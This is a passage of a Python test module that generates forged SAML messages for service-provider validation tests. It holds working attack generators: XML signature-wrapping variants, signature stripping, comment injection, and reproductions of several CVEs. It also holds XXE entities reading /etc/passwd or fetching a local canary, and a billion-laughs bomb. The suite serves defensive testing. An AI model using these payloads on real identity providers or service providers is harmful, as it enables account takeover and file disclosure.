# tests/saml/cases.py — owns the generated SAML message corpus (Responses, EncryptedAssertions, logout messages) and its xmlsec1 self-check.
"""Generate signed SAML 2.0 Responses for SP validation tests (security-checklist SM01–SM18, §3.2/§3.3),
EncryptedAssertion Responses (XML-Enc built by hand with cryptography) and IdP logout messages (SM25).

    echo '{...}' | python3 tests/saml/cases.py          # JSON in, JSON out (see README.md)
    python3 tests/saml/cases.py --self-check [--keep DIR]
    python3 tests/saml/cases.py --list

Signatures are RSA-SHA256 / SHA-256 / exclusive c14n, enveloped, placed right after the
signed element's Issuer (schema position). Documents are pretty-printed on purpose, so every
element removal inside signed content must keep the following whitespace (see drop()).
"""

import base64
import copy
import datetime
import hashlib
import hmac
import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile

import signxml

import testkeys
from cryptography import x509
from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from lxml import etree

XMLSEC1 = "/usr/bin/xmlsec1"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
XENC = "http://www.w3.org/2001/04/xmlenc#"
XENC11 = "http://www.w3.org/2009/xmlenc11#"
XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
SIG_RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
SIG_RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
SIG_HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
DIGEST_SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
DIGEST_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
STATUS_REQUESTER = "urn:oasis:names:tc:SAML:2.0:status:Requester"
STATUS_REQUEST_DENIED = "urn:oasis:names:tc:SAML:2.0:status:RequestDenied"
NAMEID_PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
PPT = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"

# The attacker owns a genuine account at the IdP; wrapping attacks start from a response
# the IdP signed for it and try to become the victim (the input name_id).
ATTACKER_NAME_ID = "attacker@attacker.test"
EVIL_URL = "https://evil.test"
DEFAULT_CANARY = "http://127.0.0.1:18099"
COGNITO_MAX_CHARS = 100_000


def q(ns, tag):
    return f"{{{ns}}}{tag}"


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def new_id():
    return "_" + secrets.token_hex(20)


MISSING = object()  # "leave this attribute/element out"


# --------------------------------------------------------------------------- building


class Ctx:
    """Per-run inputs plus a fresh attacker key pair.

    The optional inputs (SP encryption cert, SLO URL, logout InResponseTo) stay None when not
    given; needs() says which cases cannot be built without them.
    """

    def __init__(self, idp_key_pem, idp_cert_pem, issuer, audience, acs, name_id, canary=DEFAULT_CANARY,
                 sp_encryption_cert_pem=None, slo=None, session_index=None, logout_in_response_to=None):
        self.key = serialization.load_pem_private_key(idp_key_pem, password=None)
        self.cert_pem = idp_cert_pem.decode() if isinstance(idp_cert_pem, bytes) else idp_cert_pem
        self.issuer, self.audience, self.acs, self.name_id = issuer, audience, acs, name_id
        self.canary = canary.rstrip("/")
        self.attacker_key, self.attacker_cert_pem = make_key_and_cert("attacker")
        self.attacker_cert = x509.load_pem_x509_certificate(self.attacker_cert_pem.encode())
        self.sp_encryption_cert = (
            x509.load_pem_x509_certificate(sp_encryption_cert_pem) if sp_encryption_cert_pem else None
        )
        self.slo, self.logout_in_response_to = slo, logout_in_response_to
        # Any value is a valid LogoutRequest; the input one lets the test end a real session.
        self.session_index = session_index or "_sess_" + secrets.token_hex(16)
        self.in_response_to = None


def make_key_and_cert(cn):
    key, cert = testkeys.self_signed(cn)
    return key, cert.public_bytes(serialization.Encoding.PEM).decode()


def build(ctx, name_id, **o):
    """A Success Response with one bearer Assertion; keyword overrides bend single fields."""
    now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    minutes = lambda m: iso(now + datetime.timedelta(minutes=m))  # noqa: E731
    irt = o.get("in_response_to", ctx.in_response_to)
    issuer = o.get("issuer", ctx.issuer)

    r = etree.Element(q(SAMLP, "Response"), nsmap={"samlp": SAMLP, "saml": SAML})
    r.set("ID", new_id())
    r.set("Version", "2.0")
    r.set("IssueInstant", iso(now))
    r.set("Destination", o.get("destination", ctx.acs))
    if irt not in (None, MISSING):
        r.set("InResponseTo", irt)
    etree.SubElement(r, q(SAML, "Issuer")).text = issuer
    status = etree.SubElement(r, q(SAMLP, "Status"))
    code = etree.SubElement(status, q(SAMLP, "StatusCode"), Value=o.get("status", STATUS_SUCCESS))
    if o.get("sub_status"):
        etree.SubElement(code, q(SAMLP, "StatusCode"), Value=o["sub_status"])
    if o.get("assertion", True):
        r.append(build_assertion(ctx, name_id, now, minutes, irt, issuer, o))
    etree.indent(r, space="  ")
    return r


def build_assertion(ctx, name_id, now, minutes, irt, issuer, o):
    a = etree.Element(q(SAML, "Assertion"), nsmap={"saml": SAML, "xs": XS, "xsi": XSI})
    a.set("ID", new_id())
    a.set("Version", "2.0")
    a.set("IssueInstant", iso(now))
    etree.SubElement(a, q(SAML, "Issuer")).text = issuer
    subject = etree.SubElement(a, q(SAML, "Subject"))
    etree.SubElement(subject, q(SAML, "NameID"), Format=NAMEID_PERSISTENT).text = name_id
    sc = etree.SubElement(subject, q(SAML, "SubjectConfirmation"), Method=BEARER)
    scd = etree.SubElement(sc, q(SAML, "SubjectConfirmationData"))
    scd.set("NotOnOrAfter", o.get("scd_not_on_or_after", minutes(5)))
    scd.set("Recipient", o.get("recipient", ctx.acs))
    if irt not in (None, MISSING):
        scd.set("InResponseTo", irt)
    cond = etree.SubElement(a, q(SAML, "Conditions"))
    cond.set("NotBefore", o.get("not_before", minutes(-1)))
    cond.set("NotOnOrAfter", o.get("not_on_or_after", minutes(5)))
    audience = o.get("audience", ctx.audience)
    if audience is not MISSING:
        ar = etree.SubElement(cond, q(SAML, "AudienceRestriction"))
        etree.SubElement(ar, q(SAML, "Audience")).text = audience
    authn = etree.SubElement(a, q(SAML, "AuthnStatement"), AuthnInstant=iso(now), SessionIndex=ctx.session_index)
    etree.SubElement(etree.SubElement(authn, q(SAML, "AuthnContext")), q(SAML, "AuthnContextClassRef")).text = PPT
    attrs = etree.SubElement(a, q(SAML, "AttributeStatement"))
    for name, value in [("email", o.get("email", name_id))] + o.get("extra_attributes", []):
        attr = etree.SubElement(attrs, q(SAML, "Attribute"), Name=name)
        attr.set("NameFormat", "urn:oasis:names:tc:SAML:2.0:attrname-format:unspecified")
        av = etree.SubElement(attr, q(SAML, "AttributeValue"))
        av.set(q(XSI, "type"), "xs:string")
        av.text = value
    return a


# --------------------------------------------------------------------------- signing


def by_id(root, ident):
    found = root.xpath("//*[@ID=$i]", i=ident)
    assert len(found) == 1, f"{ident}: {len(found)} nodes"
    return found[0]


def sign(root, target_id, key, cert_pem, references=None):
    """Enveloped RSA-SHA256 signature over #target_id, placed after the target's Issuer.

    signxml re-parses its input, so the returned root is a new tree.
    """
    target = by_id(root, target_id)
    placeholder = etree.Element(q(DS, "Signature"), Id="placeholder", nsmap={"ds": DS})
    issuer = target.find(q(SAML, "Issuer"))
    placeholder.tail = issuer.tail
    issuer.addnext(placeholder)
    signer = signxml.XMLSigner(
        method=signxml.methods.enveloped,
        signature_algorithm="rsa-sha256",
        digest_algorithm="sha256",
        c14n_algorithm=EXC_C14N,
    )
    return signer.sign(
        root, key=key, cert=cert_pem, reference_uri=references or "#" + target_id, id_attribute="ID"
    )


def own_signature(el):
    return el.find(q(DS, "Signature"))


def drop(el):
    """Remove el like DOM removeChild: its tail text stays where it was.

    lxml's parent.remove() takes the tail along, which changes the canonical form of the
    parent and silently breaks the digest of a signed copy (checklist §3.2).
    """
    parent = el.getparent()
    if el.tail:
        prev = el.getprevious()
        if prev is not None:
            prev.tail = (prev.tail or "") + el.tail
        else:
            parent.text = (parent.text or "") + el.tail
    el.tail = None
    parent.remove(el)
    return el


def c14n(el):
    return etree.tostring(el, method="c14n", exclusive=True, with_comments=False)


def enveloped_digest(target, hash_name="sha256"):
    """Digest of target as an enveloped-signature verifier sees it (its own Signature excised)."""
    clone = copy.deepcopy(target)
    clone.tail = None
    sig = own_signature(clone)
    if sig is not None:
        drop(sig)
    return base64.b64encode(hashlib.new(hash_name, c14n(clone)).digest()).decode()


def resign_signed_info(signature, key, hash_cls=hashes.SHA256):
    si = signature.find(q(DS, "SignedInfo"))
    value = key.sign(c14n(si), padding.PKCS1v15(), hash_cls())
    signature.find(q(DS, "SignatureValue")).text = base64.b64encode(value).decode()


def evilize(el, name_id):
    """Make the copy the attacker wants consumed: victim NameID and email everywhere in el."""
    for n in el.iter(q(SAML, "NameID")):
        n.text = name_id
    for av in el.iter(q(SAML, "AttributeValue")):
        av.text = name_id


def serialize(root, doctype=None):
    body = etree.tostring(root, encoding="UTF-8", xml_declaration=False)
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n'
    if doctype:
        head += doctype.encode() + b"\n"
    return head + body


# --------------------------------------------------------------------------- bases


def assertion_signed(ctx, name_id, **o):
    r = build(ctx, name_id, **o)
    return sign(r, r.find(q(SAML, "Assertion")).get("ID"), ctx.key, ctx.cert_pem)


def response_signed(ctx, name_id, **o):
    r = build(ctx, name_id, **o)
    return sign(r, r.get("ID"), ctx.key, ctx.cert_pem)


def both_signed(ctx, name_id, **o):
    r = assertion_signed(ctx, name_id, **o)
    return sign(r, r.get("ID"), ctx.key, ctx.cert_pem)


def assertion_of(r):
    return r.find(q(SAML, "Assertion"))


# --------------------------------------------------------------------------- cases
# Each case returns (xml bytes, note). CASES maps name -> (expect, oracle, fn);
# oracle is what `xmlsec1 --verify` with the IdP key must say (None = not run).


def good_assertion_signed(ctx):
    return serialize(assertion_signed(ctx, ctx.name_id)), "genuine; Assertion signed"


def good_response_signed(ctx):
    return serialize(response_signed(ctx, ctx.name_id)), "genuine; Response signed"


def good_both_signed(ctx):
    return serialize(both_signed(ctx, ctx.name_id)), "genuine; Response and Assertion signed"


def strip_signatures(ctx):
    r = both_signed(ctx, ATTACKER_NAME_ID)
    for s in r.findall(".//" + q(DS, "Signature")):
        drop(s)
    evilize(r, ctx.name_id)
    return serialize(r), "all Signatures removed, NameID forged (SM01)"


def empty_signature_value(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    evilize(a, ctx.name_id)
    sig = own_signature(a)
    sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'DigestValue')}").text = enveloped_digest(a)
    sig.find(q(DS, "SignatureValue")).text = ""
    return serialize(r), "forged Assertion, correct digest, empty SignatureValue (SM01)"


def resign_with_attacker_key(ctx):
    r = build(ctx, ctx.name_id)
    r = sign(r, assertion_of(r).get("ID"), ctx.attacker_key, ctx.attacker_cert_pem)
    return serialize(r), "Assertion signed by an attacker key whose cert is in KeyInfo (SM02)"


def tampered_nameid(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    assertion_of(r).find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}").text = ctx.name_id
    return serialize(r), "NameID changed after signing (digest mismatch)"


def unsigned_copy(el):
    """A detached deep copy of a signed element, without its own Signature."""
    c = copy.deepcopy(el)
    c.tail = None
    drop(own_signature(c))
    return c


def xsw1(ctx):
    r = response_signed(ctx, ATTACKER_NAME_ID)
    s = own_signature(r)
    c = copy.deepcopy(r)
    drop(own_signature(c))
    evilize(r, ctx.name_id)
    s.append(c)
    r.set("ID", new_id())
    return serialize(r), "XSW1: signed Response copy inside Signature, evil root Response"


def xsw2(ctx):
    r = response_signed(ctx, ATTACKER_NAME_ID)
    s = own_signature(r)
    c = copy.deepcopy(r)
    drop(own_signature(c))
    evilize(r, ctx.name_id)
    c.tail = s.getparent().text  # keep the layout readable; outside any signed content
    s.addprevious(c)
    r.set("ID", new_id())
    return serialize(r), "XSW2: signed Response copy before the (now detached) Signature"


def _evil_assertion_copy(ctx, a):
    e = copy.deepcopy(a)
    e.tail = None
    evilize(e, ctx.name_id)
    e.set("ID", new_id())
    drop(own_signature(e))
    return e


def xsw3(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = _evil_assertion_copy(ctx, a)
    e.tail = a.getprevious().tail
    a.addprevious(e)
    return serialize(r), "XSW3: unsigned evil Assertion before the signed one"


def xsw4(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = _evil_assertion_copy(ctx, a)
    drop(a)
    r.append(e)
    e.append(a)
    return serialize(r), "XSW4: signed Assertion nested as last child of the evil one"


def xsw5(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    c = unsigned_copy(a)
    evilize(a, ctx.name_id)
    a.set("ID", new_id())
    r.append(c)
    return serialize(r), "XSW5: evil Assertion keeps the Signature; signed original appended unsigned"


def xsw6(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    c = unsigned_copy(a)
    evilize(a, ctx.name_id)
    a.set("ID", new_id())
    own_signature(a).append(c)
    return serialize(r), "XSW6: signed original hidden inside the evil Assertion's Signature"


def _xsw7(ctx, schema_valid):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = copy.deepcopy(a)  # same ID as the signed one
    e.tail = None
    evilize(e, ctx.name_id)
    drop(own_signature(e))
    if schema_valid:
        ext = etree.Element(q(SAMLP, "Extensions"))
        ext.append(e)
        ext.tail = r.find(q(SAML, "Issuer")).tail
        r.find(q(SAML, "Issuer")).addnext(ext)  # schema position: after Issuer, before Status
    else:
        ext = etree.Element("Extensions")
        ext.append(e)
        ext.tail = a.getprevious().tail
        a.addprevious(ext)
    return serialize(r)


def xsw7(ctx):
    return _xsw7(ctx, False), "XSW7: evil Assertion with the same ID inside an un-namespaced <Extensions>"


def xsw7_schema_valid(ctx):
    return _xsw7(ctx, True), "XSW7 with samlp:Extensions at its schema position (schema-valid)"


def xsw8(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    c = copy.deepcopy(a)  # same ID A0
    c.tail = None
    drop(own_signature(c))
    evilize(a, ctx.name_id)
    obj = etree.SubElement(own_signature(a), q(DS, "Object"))
    obj.append(c)
    return serialize(r), "XSW8: evil Assertion keeps ID and Signature; signed original inside ds:Object"


def two_assertions_cve_2022_41912(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = copy.deepcopy(a)
    e.tail = None
    evilize(e, ctx.name_id)
    e.set("ID", a.get("ID") + "_attack")
    drop(own_signature(e))
    a.tail = r.text
    r.append(e)
    return serialize(r), "signed Assertion first, unsigned forged second (CVE-2022-41912)"


def comment_injection_nameid(ctx):
    full = ctx.name_id + ".attacker.test"
    r = assertion_signed(ctx, full, email=full)
    nid = assertion_of(r).find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
    nid.text = ctx.name_id
    comment = etree.Comment("")
    comment.tail = ".attacker.test"
    nid.append(comment)
    return serialize(r), f"IdP signed {full}; <!----> inserted (SM10) - never log in as {ctx.name_id}"


def _minutes(m):
    return iso(datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(minutes=m))


# One field wrong, everything else genuine and signed on both Response and Assertion:
# case -> (both_signed overrides, note). Built lazily, since times are relative to now.
FIELD_CASES = {
    "expired_conditions": (
        lambda ctx: dict(not_before=_minutes(-20), not_on_or_after=_minutes(-10)),
        "Conditions NotOnOrAfter 10 min ago (SM15)",
    ),
    "not_yet_valid": (
        lambda ctx: dict(not_before=_minutes(10), not_on_or_after=_minutes(20)),
        "Conditions NotBefore in 10 min (SM15)",
    ),
    "expired_subjectconfirmation": (
        lambda ctx: dict(scd_not_on_or_after=_minutes(-10)),
        "SubjectConfirmationData NotOnOrAfter 10 min ago (SM14)",
    ),
    "wrong_audience": (
        lambda ctx: dict(audience="urn:amazon:cognito:sp:attacker-pool"),
        "Audience is another SP (SM16)",
    ),
    "no_audience": (lambda ctx: dict(audience=MISSING), "Conditions without AudienceRestriction (SM16)"),
    "wrong_destination": (
        lambda ctx: dict(destination=EVIL_URL + "/saml2/idpresponse"),
        "signed Response Destination is another ACS (SM13)",
    ),
    "wrong_recipient": (
        lambda ctx: dict(recipient=EVIL_URL + "/saml2/idpresponse"),
        "SubjectConfirmationData Recipient is another ACS (SM14)",
    ),
    "wrong_inresponseto": (
        lambda ctx: dict(in_response_to=new_id()),
        "InResponseTo names a request we never sent (SM14/SM19)",
    ),
    "missing_inresponseto": (
        lambda ctx: dict(in_response_to=MISSING),
        "unsolicited (no InResponseTo); accept only with IdP-initiated on (SM19)",
    ),
    "wrong_issuer": (
        lambda ctx: dict(issuer=EVIL_URL + "/idp"),
        "Issuer is another IdP, signed with the real key (SM17)",
    ),
    "status_responder": (
        lambda ctx: dict(status=STATUS_REQUESTER, sub_status=STATUS_REQUEST_DENIED),
        "signed non-Success status (Requester/RequestDenied) carrying a signed Assertion (SM18)",
    ),
}


def field_case(name):
    overrides, note = FIELD_CASES[name]

    def case(ctx):
        return serialize(both_signed(ctx, ctx.name_id, **overrides(ctx))), note

    return case


def unsigned_fields_forged(ctx):
    # SM21: the Assertion answers another request (signed); the unsigned Response around it
    # is edited to name ours. Only the signed InResponseTo may count.
    r = assertion_signed(ctx, ctx.name_id, in_response_to=new_id())
    if ctx.in_response_to:
        r.set("InResponseTo", ctx.in_response_to)
    return serialize(r), "signed Assertion for another request in an unsigned Response edited to name ours (SM21)"


def decoy_signature_error_response(ctx):
    r = response_signed(ctx, ctx.name_id, status=STATUS_REQUESTER, assertion=False)
    s = own_signature(r)
    decoy = etree.Element(q(DS, "Signature"), nsmap={"ds": DS})
    decoy.append(copy.deepcopy(s.find(q(DS, "SignedInfo"))))
    decoy.append(copy.deepcopy(s.find(q(DS, "SignatureValue"))))
    forged = assertion_of(build(ctx, ctx.name_id))
    etree.SubElement(decoy, q(DS, "Object")).append(forged)
    # Inside the genuine Signature the decoy is excised by its enveloped transform: digest intact.
    etree.SubElement(s, q(DS, "Object")).append(decoy)
    return serialize(r), "signed Requester error + decoy Signature whose ds:Object holds a forged Assertion (SM18)"


def fetching_xslt_transform(transforms, url):
    """Appends a ds:Transform whose XSLT stylesheet fetches url with document()."""
    xslt = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
    xsl = "http://www.w3.org/1999/XSL/Transform"
    sheet = etree.SubElement(xslt, f"{{{xsl}}}stylesheet", nsmap={"xsl": xsl}, version="1.0")
    tpl = etree.SubElement(sheet, f"{{{xsl}}}template", match="/")
    etree.SubElement(tpl, f"{{{xsl}}}copy-of", select=f"document('{url}')")


def xslt_transform(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    sig = own_signature(assertion_of(r))
    fetching_xslt_transform(sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'Transforms')}"), f"{ctx.canary}/xslt")
    resign_signed_info(sig, ctx.key)
    return serialize(r), f"Reference with an XSLT Transform fetching {ctx.canary}/xslt; SignedInfo validly signed (SM07)"


def injected_digestvalue_cve_2024_45409(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    evilize(a, ctx.name_id)
    ext = etree.Element(q(SAMLP, "Extensions"))
    etree.SubElement(ext, q(DS, "DigestValue"), nsmap={"ds": DS}).text = enveloped_digest(a)
    issuer = r.find(q(SAML, "Issuer"))
    ext.tail = issuer.tail
    issuer.addnext(ext)
    return serialize(r), "forged Assertion; its digest in an earlier ds:DigestValue in samlp:Extensions (CVE-2024-45409)"


def comment_in_digestvalue_cve_2025_29775(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    evilize(a, ctx.name_id)
    sig = own_signature(a)
    dv = sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'DigestValue')}")
    comment = etree.Comment(enveloped_digest(a))
    comment.tail, dv.text = dv.text, None
    dv.append(comment)
    return serialize(r), "forged Assertion; <DigestValue><!--forged digest-->original</DigestValue> (CVE-2025-29775)"


def two_references(ctx):
    r = build(ctx, ctx.name_id)
    a_id = assertion_of(r).get("ID")
    r = sign(r, a_id, ctx.key, ctx.cert_pem, references=["#" + a_id, "#" + r.get("ID")])
    return serialize(r), "genuine Signature with two References (#Assertion, #Response) (SM06/SM08)"


def rsa_sha1_signature(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    a = assertion_of(r)
    sig = own_signature(a)
    si = sig.find(q(DS, "SignedInfo"))
    si.find(q(DS, "SignatureMethod")).set("Algorithm", SIG_RSA_SHA1)
    ref = si.find(q(DS, "Reference"))
    ref.find(q(DS, "DigestMethod")).set("Algorithm", DIGEST_SHA1)
    ref.find(q(DS, "DigestValue")).text = enveloped_digest(a, "sha1")
    resign_signed_info(sig, ctx.key, hashes.SHA1)
    return serialize(r), "genuine rsa-sha1 / sha1 signature (SM09: SHA-1 off by default)"


def hmac_sha256_signature(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    sig = own_signature(assertion_of(r))
    si = sig.find(q(DS, "SignedInfo"))
    si.find(q(DS, "SignatureMethod")).set("Algorithm", SIG_HMAC_SHA256)
    drop(sig.find(q(DS, "KeyInfo")))
    # Key confusion: the HMAC key is the IdP's public certificate, which anyone has.
    mac = hmac.new(ctx.cert_pem.encode(), c14n(si), hashlib.sha256).digest()
    sig.find(q(DS, "SignatureValue")).text = base64.b64encode(mac).decode()
    return serialize(r), "SignatureMethod hmac-sha256 keyed with the IdP certificate PEM (SM09)"


DOCTYPE_ROOT = "<!DOCTYPE samlp:Response"


def _with_extension_payload(ctx, doctype, payload):
    """Assertion-signed response whose unsigned samlp:Extensions holds an entity reference.

    The signature stays valid, so only the DOCTYPE is wrong (SM11).
    """
    r = assertion_signed(ctx, ctx.name_id)
    ext = etree.Element(q(SAMLP, "Extensions"))
    etree.SubElement(ext, "{urn:test:xxe}leak", nsmap={"x": "urn:test:xxe"}).text = "@@PAYLOAD@@"
    issuer = r.find(q(SAML, "Issuer"))
    ext.tail = issuer.tail
    issuer.addnext(ext)
    return serialize(r, doctype).replace(b"@@PAYLOAD@@", payload.encode())


def doctype_plain(ctx):
    return serialize(assertion_signed(ctx, ctx.name_id), DOCTYPE_ROOT + ">"), "harmless DOCTYPE, valid signature (SM11)"


def xxe_file(ctx):
    dt = DOCTYPE_ROOT + ' [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _with_extension_payload(ctx, dt, "&xxe;"), "external entity file:///etc/passwd in samlp:Extensions (SM11)"


def xxe_external_general(ctx):
    dt = DOCTYPE_ROOT + f' [<!ENTITY xxe SYSTEM "{ctx.canary}/xxe-general">]>'
    return _with_extension_payload(ctx, dt, "&xxe;"), f"external entity fetching {ctx.canary}/xxe-general (SM11)"


def xxe_parameter(ctx):
    dt = DOCTYPE_ROOT + f' [<!ENTITY % p SYSTEM "{ctx.canary}/xxe-param"> %p;]>'
    return _with_extension_payload(ctx, dt, "x"), f"parameter entity fetching {ctx.canary}/xxe-param (SM11)"


def billion_laughs(ctx):
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    ]
    dt = DOCTYPE_ROOT + " [" + "".join(ents) + "]>"
    return _with_extension_payload(ctx, dt, "&lol9;"), "10x10 entity expansion (10^9 x 'lol') in samlp:Extensions (SM11)"


def oversized(ctx):
    pad = 80_000
    while True:
        r = assertion_signed(ctx, ctx.name_id, extra_attributes=[("padding", "A" * pad)])
        xml = serialize(r)
        if len(base64.b64encode(xml)) > COGNITO_MAX_CHARS:
            return xml, f"valid signed Response of {len(base64.b64encode(xml))} base64 chars (> {COGNITO_MAX_CHARS}, SM12)"
        pad += 10_000


def reference_uri_empty(ctx):
    r = response_signed(ctx, ctx.name_id)
    sig = own_signature(r)
    # Same node set as #ID for a root-level enveloped signature, so the digest is unchanged.
    sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}").set("URI", "")
    resign_signed_info(sig, ctx.key)
    return serialize(r), 'genuine Response signature with Reference URI="" (SM06)'


def signature_moved(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    sig = drop(own_signature(assertion_of(r)))
    issuer = r.find(q(SAML, "Issuer"))
    sig.tail = issuer.tail
    issuer.addnext(sig)
    return serialize(r), "valid Assertion Signature moved to be a child of the Response (SM06)"


def signed_assertion_in_extensions(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    forged = _evil_assertion_copy(ctx, a)
    forged.set("ID", a.get("ID") + "_forged")
    sig_copy = copy.deepcopy(own_signature(a))
    sig_copy.tail = forged.find(q(SAML, "Issuer")).tail
    forged.find(q(SAML, "Issuer")).addnext(sig_copy)
    forged.tail = a.tail
    a.addprevious(forged)
    drop(a)
    ext = etree.Element(q(SAMLP, "Extensions"))
    ext.append(a)
    issuer = r.find(q(SAML, "Issuer"))
    ext.tail = issuer.tail
    issuer.addnext(ext)
    return serialize(r), "genuine signed Assertion hidden in samlp:Extensions; forged one with a copied Signature in its place"


# --------------------------------------------------------------------------- encryption
# XML-Enc built by hand, so each case can bend exactly one thing the SP checks; the
# self-check decrypts every case with xmlsec1 to prove the rest is genuine.

ENC_ELEMENT = XENC + "Element"
ENC_KEY_REFERENCE = XENC + "EncryptedKey"  # RetrievalMethod Type
AES256_GCM = XENC11 + "aes256-gcm"
AES256_CBC = XENC + "aes256-cbc"
TRIPLEDES_CBC = XENC + "tripledes-cbc"
RSA_OAEP_MGF1P = XENC + "rsa-oaep-mgf1p"
RSA_1_5 = XENC + "rsa-1_5"
OPAQUE_TYPE = "urn:example:opaque"
GCM_IV, GCM_TAG = 12, 16


def b64(data):
    return base64.b64encode(data).decode()


def _gcm(key, data):
    # XML-Enc 1.1 §5.2.4: CipherValue = 96-bit IV || ciphertext || 128-bit tag.
    iv = os.urandom(GCM_IV)
    return iv + AESGCM(key).encrypt(iv, data, None)


def _cbc(algorithm, block):
    def encrypt(key, data):
        # IV first; PKCS#7 padding is a valid ISO 10126 padding (only the last byte is read).
        iv = os.urandom(block)
        n = block - len(data) % block
        e = Cipher(algorithm(key), modes.CBC(iv)).encryptor()
        return iv + e.update(data + bytes([n]) * n) + e.finalize()

    return encrypt


# data algorithm -> (key bytes, encrypt(key, plaintext) -> CipherValue bytes)
CONTENT_CIPHERS = {
    AES256_GCM: (32, _gcm),
    AES256_CBC: (32, _cbc(algorithms.AES, 16)),
    TRIPLEDES_CBC: (24, _cbc(TripleDES, 8)),
}
# rsa-oaep-mgf1p: SHA-1 digest and MGF1-SHA1 (also stated by the DigestMethod child).
KEY_TRANSPORTS = {
    RSA_OAEP_MGF1P: padding.OAEP(mgf=padding.MGF1(hashes.SHA1()), algorithm=hashes.SHA1(), label=None),
    RSA_1_5: padding.PKCS1v15(),
}


def encrypted_key(cert, algorithm, session_key, ident=None):
    """xenc:EncryptedKey wrapping session_key for cert, whose certificate is in its KeyInfo."""
    ek = etree.Element(q(XENC, "EncryptedKey"), nsmap={"xenc": XENC, "ds": DS})
    if ident:
        ek.set("Id", ident)
    method = etree.SubElement(ek, q(XENC, "EncryptionMethod"), Algorithm=algorithm)
    if algorithm == RSA_OAEP_MGF1P:
        etree.SubElement(method, q(DS, "DigestMethod"), Algorithm=DIGEST_SHA1)
    x509data = etree.SubElement(etree.SubElement(ek, q(DS, "KeyInfo")), q(DS, "X509Data"))
    etree.SubElement(x509data, q(DS, "X509Certificate")).text = b64(cert.public_bytes(serialization.Encoding.DER))
    wrapped = cert.public_key().encrypt(session_key, KEY_TRANSPORTS[algorithm])
    etree.SubElement(etree.SubElement(ek, q(XENC, "CipherData")), q(XENC, "CipherValue")).text = b64(wrapped)
    return ek


def encrypted_assertion(plaintext, cert, data_alg=AES256_GCM, key_alg=RSA_OAEP_MGF1P, data_type=ENC_ELEMENT,
                        key_as_sibling=False, decoy_key=False):
    """saml:EncryptedAssertion holding plaintext encrypted for cert.

    The EncryptedKey sits in EncryptedData/ds:KeyInfo, or (key_as_sibling) after EncryptedData
    with an Id that a ds:RetrievalMethod names. decoy_key puts a first EncryptedKey before the
    real one that wraps a random key of the right size.
    """
    key_len, encrypt = CONTENT_CIPHERS[data_alg]
    session_key = os.urandom(key_len)
    ea = etree.Element(q(SAML, "EncryptedAssertion"), nsmap={"saml": SAML})
    ed = etree.SubElement(ea, q(XENC, "EncryptedData"), nsmap={"xenc": XENC, "ds": DS}, Type=data_type)
    etree.SubElement(ed, q(XENC, "EncryptionMethod"), Algorithm=data_alg)
    key_info = etree.SubElement(ed, q(DS, "KeyInfo"))
    if decoy_key:
        key_info.append(encrypted_key(cert, key_alg, os.urandom(key_len)))
    if key_as_sibling:
        ek_id = new_id()
        etree.SubElement(key_info, q(DS, "RetrievalMethod"), Type=ENC_KEY_REFERENCE, URI="#" + ek_id)
        ea.append(encrypted_key(cert, key_alg, session_key, ek_id))
